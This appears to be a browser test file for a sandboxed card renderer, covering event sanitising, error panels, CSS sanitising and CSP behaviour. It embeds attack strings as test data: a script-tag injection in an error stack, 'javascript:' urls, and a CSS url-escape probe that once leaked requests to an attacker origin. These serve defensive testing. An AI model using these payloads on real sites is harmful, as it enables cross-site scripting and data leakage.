      { tag: 'button', attrs: { class: 'b' }, on: { click: 'a:click', keydown: 'a:key' }, children: ['b'] },
      { tag: 'input', attrs: { class: 'i' }, on: { input: 'a:input' } },
      { tag: 'input', attrs: { type: 'checkbox', class: 'c' }, on: { change: 'a:change' } },
      { tag: 'select', attrs: { class: 's', value: 'two' }, on: { change: 'a:select' }, children: [{ tag: 'option', attrs: { value: 'one' }, children: ['1'] }, { tag: 'option', attrs: { value: 'two' }, children: ['2'] }] },
    ] };
    return R.mount('ev');
  });
  const actions = await page.evaluate(async () => {
    const $ = (s) => R.$('ev', s);
    $('.b').click();
    $('.b').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', code: 'Enter', shiftKey: true, bubbles: true }));
    $('.i').value = 'hello';
    $('.i').dispatchEvent(new Event('input', { bubbles: true }));
    $('.c').click();
    const selectValue = $('.s').value;
    $('.s').value = 'one';
    $('.s').dispatchEvent(new Event('change', { bubbles: true }));
    await R.views.ev.settled();
    return { actions: R.actions.map((a) => ({ ...a })), selectValue };
  });
  assert.equal(actions.selectValue, 'two', 'select value set after its options');
  const byId = Object.fromEntries(actions.actions.map((a) => [a.actionId, a]));
  for (const a of actions.actions) assertEventData(a);
  assert.deepEqual(byId['a:click'].data, { type: 'click', altKey: false, ctrlKey: false, metaKey: false, shiftKey: false, button: 0 });
  assert.deepEqual(byId['a:key'].data, { type: 'keydown', key: 'Enter', code: 'Enter', altKey: false, ctrlKey: false, metaKey: false, shiftKey: true });
  assert.equal(byId['a:input'].data.value, 'hello');
  assert.equal(byId['a:change'].data.checked, true);
  assert.equal(byId['a:select'].data.value, 'one');
  assert.deepEqual(actions.actions.map((a) => a.actionId), ['a:click', 'a:key', 'a:input', 'a:change', 'a:select']);
});

test('events: host component callbacks are sanitised whatever the component passes', async () => {
  const out = await page.evaluate(async () => {
    R.actions.length = 0;
    R.renderSource.comp = { tree: [
      { component: { $token: ['ui', 'Button'] }, props: { label: 'B' }, on: { click: 'c:button' } },
      { component: { $token: ['ui', 'Junk'] }, on: { change: 'c:junk' }, children: ['junk'] },
    ] };
    await R.mount('comp');
    R.$('comp', '.host-button').click();
    R.junk = { value: 'v', checked: 'yes', key: 5, ctrlKey: true, button: 1.5, target: document.body, nested: { a: 1 }, fn: () => 1, type: 'evil' };
    R.$('comp', '.junk').click();
    R.junk = document.body;
    R.$('comp', '.junk').click();
    R.junk = 42;
    R.$('comp', '.junk').click();
    await R.views.comp.settled();
    return R.actions.map((a) => ({ ...a }));
  });
  for (const a of out) assertEventData(a);
  assert.equal(out[0].actionId, 'c:button');
  assert.equal(out[0].data.type, 'click');
  assert.equal(out[0].data.button, 0);
  assert.deepEqual(out.slice(1).map((a) => a.data), [{ type: 'change', value: 'v', ctrlKey: true }, { type: 'change' }, { type: 'change', value: 42 }]);
});

test('events: a new action id is used without adding a second listener', async () => {
  const out = await page.evaluate(async () => {
    R.actions.length = 0;
    R.renderSource.ids = { tree: [{ tag: 'button', on: { click: 'id:1' }, children: ['b'] }, { component: { $token: ['ui', 'Button'] }, props: { label: 'c' }, on: { click: 'cid:1' } }] };
    R.nextRender = null;
    await R.mount('ids');
    R.renderSource.ids.tree[0].on.click = 'id:2';
    R.renderSource.ids.tree[1].on.click = 'cid:2';
    const button = R.$('ids', 'button');
    const comp = R.$('ids', '.host-button');
    const records = await R.mutations('ids', () => R.views.ids.refresh());
    R.$('ids', 'button').click();
    R.$('ids', '.host-button').click();
    await R.views.ids.settled();
    R.renderSource.ids.tree[0].on = {};
    await R.views.ids.refresh();
    R.$('ids', 'button').click();
    await R.views.ids.settled();
    return { records: records.length, same: R.$('ids', 'button') === button && R.$('ids', '.host-button') === comp, ids: R.actions.map((a) => a.actionId) };
  });
  assert.equal(out.records, 0);
  assert.ok(out.same);
  assert.deepEqual(out.ids, ['id:2', 'cid:2']);
});

test('events: submit and acted-on links never navigate', async () => {
  const before = page.url();
  const out = await page.evaluate(async () => {
    R.actions.length = 0;
    R.renderSource.nav = { tree: [
      { tag: 'form', on: { submit: 'f:submit' }, children: [{ tag: 'input', attrs: { name: 'q', value: 'x' } }, { tag: 'button', attrs: { class: 'go' }, children: ['go'] }] },
      { tag: 'form', children: [{ tag: 'button', attrs: { class: 'plain' }, children: ['plain'] }] },
      { tag: 'a', attrs: { href: '/elsewhere', class: 'l' }, on: { click: 'l:click' }, children: ['link'] },
    ] };
    await R.mount('nav');
    R.$('nav', '.go').click();
    R.$('nav', '.plain').click();
    R.$('nav', '.l').click();
    await R.views.nav.settled();
    return R.actions.map((a) => [a.actionId, a.data.type]);
  });
  await settle();
  assert.equal(page.url(), before);
  assert.deepEqual(out, [['f:submit', 'submit'], ['l:click', 'click']]);
});

test('events: actions during a dispatch are queued and serialised, none dropped', async () => {
  const out = await page.evaluate(async () => {
    R.actions.length = 0;
    R.events.length = 0;
    R.maxInFlight = 0;
    R.renderSource.q = { tree: [{ tag: 'button', on: { click: 'q:1' }, children: ['b'] }] };
    await R.mount('q');
    R.dispatchDelayMs = 40;
    const b = () => R.$('q', 'button');
    for (let i = 0; i < 5; i++) b().click();
    await R.views.q.settled();
    R.dispatchDelayMs = 0;
    return {
      count: R.actions.length,
      maxInFlight: R.maxInFlight,
      patches: R.events.filter((e) => e.card === 'q' && e.type === 'cardpatches').map((e) => e.detail.patches[0].seq),
      detail: R.events.find((e) => e.card === 'q').detail,
    };
  });
  assert.equal(out.count, 5);
  assert.equal(out.maxInFlight, 1);
  assert.deepEqual(out.patches, [1, 2, 3, 4, 5]);
  assert.deepEqual(out.detail, { id: 'q', format: 'isolated', actionId: 'q:1', patches: [{ seq: 1, id: 'q', path: 'x', op: 'replace', value: 'q:1' }], changed: ['x'] });
});

// ------------------------------------------------------------------------------------------
// Errors
// ------------------------------------------------------------------------------------------

const GUEST_ERROR = {
  name: 'SandboxError', code: 'SANDBOX_GUEST_THREW', message: 'TypeError: cannot read title of undefined [SANDBOX_GUEST_THREW]',
  filename: 'https://realm.test/cards/person.gts', line: 12, column: 7, guestName: 'TypeError',
  guestStack: 'at render (https://realm.test/cards/person.gts:12:7)\nat <script>window.__pwned=1</script>',
};

test('errors: a failed render keeps the last good content, marks it stale and shows the panel', async () => {
  const snap = await page.evaluate(async (err) => {
    R.events.length = 0;
    R.cardErrors.length = 0;
    R.renderSource.err = { tree: [{ tag: 'p', attrs: { class: 'good' }, children: ['last good'] }], css: '', title: 'Person' };
    await R.mount('err');
    R.renderSource.err = { $error: err };
    await R.views.err.refresh();
    return { ...R.snapshot('err'), events: R.events.filter((e) => e.card === 'err'), cardErrors: R.cardErrors.slice() };
  }, GUEST_ERROR);
  assert.equal(snap.text, 'last good');
  assert.ok(snap.stale);
  assert.ok(snap.bannerVisible);
  assert.ok(snap.error.visible);
  assert.deepEqual(snap.error.fields, {
    card: 'err (isolated)', filename: 'https://realm.test/cards/person.gts', location: '12:7', code: 'SANDBOX_GUEST_THREW',
    message: 'TypeError: cannot read title of undefined [SANDBOX_GUEST_THREW]', stack: GUEST_ERROR.guestStack,
  });
  assert.ok(!snap.outer.includes('script'), 'the stack is text');
  assert.deepEqual(snap.events, [{ card: 'err', type: 'carderror', detail: { id: 'err', format: 'isolated', code: 'SANDBOX_GUEST_THREW' } }]);
  assert.deepEqual(snap.cardErrors, [{ card: 'err', code: 'SANDBOX_GUEST_THREW', id: 'err', format: 'isolated', hasView: true }]);
  assert.equal(await pwned(), undefined);
});

test('errors: a successful render clears the panel and the stale state', async () => {
  const snap = await page.evaluate(async () => {
    R.renderSource.err = { tree: [{ tag: 'p', children: ['recovered'] }], css: '', title: 'Person' };
    await R.views.err.refresh();
    return R.snapshot('err');
  });
  assert.equal(snap.text, 'recovered');
  assert.equal(snap.error, null);
  assert.equal(snap.stale, false);
  assert.equal(snap.bannerVisible, false);
});

test('errors: dispatch failures, unknown tokens and limits go to the panel', async () => {
  const out = await page.evaluate(async () => {
    const codes = [];
    R.renderSource.err2 = { tree: [{ tag: 'button', on: { click: 'e:1' }, children: ['b'] }] };
    await R.mount('err2');
    R.dispatchError = { code: 'SANDBOX_PATCH_UNACKNOWLEDGED', message: 'no ack [SANDBOX_PATCH_UNACKNOWLEDGED]' };
    R.$('err2', 'button').click();
    await R.views.err2.settled();
    R.dispatchError = null;
    codes.push([R.snapshot('err2').error?.fields.code, R.snapshot('err2').stale]);
    let deep = 'x';
    for (let i = 0; i < 300; i++) deep = { tag: 'div', children: [deep] };
    R.views.err2.update(R.hydrate({ tree: [deep] }));
    codes.push([R.snapshot('err2').error?.fields.code, R.snapshot('err2').text]);
    R.views.err2.update({ tree: Array.from({ length: 60000 }, () => 'n') });
    codes.push([R.snapshot('err2').error?.fields.code, R.snapshot('err2').text]);
    R.views.err2.update({ tree: 'nope' });
    codes.push([R.snapshot('err2').error?.fields.code]);
    const direct = [];
    for (const tree of [[deep], [{ component: { module: 'ui', export: 'Button' } }]]) {
      try { R.cards.renderTree(document.createElement('div'), tree); direct.push('rendered'); } catch (e) { direct.push(`${e.code}:${e.limit ?? ''}`); }
    }
    return { codes, direct };
  });
  assert.deepEqual(out.codes, [['SANDBOX_PATCH_UNACKNOWLEDGED', true], ['SANDBOX_RENDER_REJECTED', 'b'], ['SANDBOX_RENDER_REJECTED', 'b'], ['SANDBOX_RENDER_REJECTED']]);
  assert.deepEqual(out.direct, ['SANDBOX_RENDER_REJECTED:maxDepth', 'SANDBOX_UNKNOWN_TOKEN:']);
});

test('errors: destroy removes content and listeners', async () => {
  const out = await page.evaluate(async () => {
    R.actions.length = 0;
    const button = R.$('err2', 'button');
    R.views.err2.destroy();
    button.click();
    await new Promise((ok) => setTimeout(ok, 20));
    const c = document.getElementById('err2');
    return { actions: R.actions.length, children: c.shadowRoot.childNodes.length, attrs: c.getAttributeNames() };
  });
  assert.deepEqual(out, { actions: 0, children: 0, attrs: ['id', 'class'] });
});

// ------------------------------------------------------------------------------------------
// sanitizeCss directly, and the package's own CSP
// ------------------------------------------------------------------------------------------

test('sanitizeCss: keeps ordinary CSS intact', async () => {
  const css = '.a.b:hover > c + d ~ e, #id{color:red!important;margin:-1px 0 .5em 1e1px;width:calc(100% - 2px)}\n' +
    '@media (width < 600px) and (min-height: 10em){.x{display:none}}\n@supports (display:grid){.g{display:grid}}\n' +
    '@keyframes k{from{opacity:0}to{opacity:1}}\n.n{&:hover{color:blue}}\n:host{display:block}\n' +
    '.u{background:url(/ok.png), url("data:image/webp;base64,AAAA"), url(#frag)}\n.s::before{content:"\\201C" attr(data-x)}';
  const out = await page.evaluate((c) => R.cards.sanitizeCss(c), css);
  // Strings and urls come back quoted and escaped from the value that was checked.
  assert.equal(out, css.replace('url(/ok.png)', 'url("/ok.png")').replace('url(#frag)', 'url("#frag")').replace('"\\201C"', '"\u201C"'));
});

test('sanitizeCss: allowedOrigins admits exactly those origins', async () => {
  const out = await page.evaluate(([EVIL]) => [
    R.cards.sanitizeCss(`.a{background:url(${EVIL}/x.png)}`, [EVIL]),
    R.cards.sanitizeCss(`.a{background:url(${EVIL}/x.png)}`, [`${EVIL}/some/path/`]),
    R.cards.sanitizeCss(`.a{background:url(${EVIL}/x.png)}`, ['https://other.test']),
    R.cards.sanitizeCss('.a{background:url(https://cdn.test/x.png)}', ['*']),
    R.cards.sanitizeCss('.a{background:url(javascript:alert(1))}', ['*']), // a bad url ends at the first `)`
  ], [EVIL]);
  assert.deepEqual(out, [`.a{background:url("${EVIL}/x.png")}`, `.a{background:url("${EVIL}/x.png")}`, '.a{background:none}', '.a{background:url("https://cdn.test/x.png")}', '.a{background:none)}']);
});

// Probes from a review of the shim, each of which worked before its fix.
test('review probes: escaped urls, :host-context, page-caused events, a host control\'s keys', async () => {
  const out = await page.evaluate(async ([EVIL]) => {
    const page = location.host;
    const box = document.body.appendChild(document.createElement('div'));
    const root = box.attachShadow({ mode: 'open' });
    // A checked value `http://EVIL<@page/…` once went out as `\\3c `: a backslash that ends
    // the host, so the browser fetched from EVIL.
    const css = R.cards.sanitizeCss(`.q{background-image:url("${EVIL}\\<@${page}/leak.gif")} .u{background-image:url(/\\<)} ` +
      ':host-context(body) .p{color:red} .k{color:blue}');
    root.innerHTML = '<div class="q"></div><div class="u"></div>';
    const style = document.createElement('style');
    style.textContent = css;
    root.prepend(style);
    const hosts = ['.q', '.u'].map((sel) => {
      const m = /url\("(.*)"\)/.exec(getComputedStyle(root.querySelector(sel)).backgroundImage);
      return m ? new URL(m[1]).host : 'none';
    });
    box.remove();
    const target = document.body.appendChild(document.createElement('div'));
    const { dropped } = R.cards.renderTree(target.attachShadow({ mode: 'open' }), [{ tag: 'div', on: { animationstart: 'x', transitionend: 'y', click: 'z' } }]);
    target.remove();
    R.actions.length = 0;
    R.renderSource.wrap = { tree: [{ tag: 'div', attrs: { class: 'w' }, on: { keydown: 'w:key' }, children: [{ component: { $token: ['ui', 'Button'] }, props: { label: 'B' } }] }] };
    await R.mount('wrap');
    R.$('wrap', '.host-button').dispatchEvent(new KeyboardEvent('keydown', { key: 'h', code: 'KeyH', bubbles: true }));
    R.$('wrap', '.w').dispatchEvent(new KeyboardEvent('keydown', { key: 'g', code: 'KeyG', bubbles: true }));
    await R.views.wrap.settled();
    return { hosts, css, dropped: dropped.map((d) => d.name), keys: R.actions.map((a) => a.data) };
  }, [EVIL]);
  const here = new URL(h.origin).host;
  assert.deepEqual(out.hosts, [here, here], out.css);
  assert.doesNotMatch(out.css, /host-context/);
  assert.match(out.css, /\.k\{color:blue\}/);
  assert.deepEqual(out.dropped, ['animationstart', 'transitionend']);
  assert.deepEqual(out.keys, [{ type: 'keydown' }, { type: 'keydown', key: 'g', code: 'KeyG', altKey: false, ctrlKey: false, metaKey: false, shiftKey: false }]);
});

test('the shim works under the package CSP (strict page)', async () => {
  const strict = await h.page('/tests/renderer.html');
  await strict.waitForFunction(() => globalThis.ready === true);
  const out = await strict.evaluate(async () => {
    R.renderSource.s = { tree: [{ tag: 'p', attrs: { class: 'x' }, children: ['styled'] }, { tag: 'img', attrs: { src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' } }], css: '.x{color:rgb(4, 5, 6)}' };
    await R.mount('s');
    const img = R.$('s', 'img');
    await img.decode();
    return { color: getComputedStyle(R.$('s', '.x')).color, width: img.naturalWidth };
  });
  assert.deepEqual(out, { color: 'rgb(4, 5, 6)', width: 1 });
  assert.deepEqual(strict.errors, []);
  await strict.close();
});
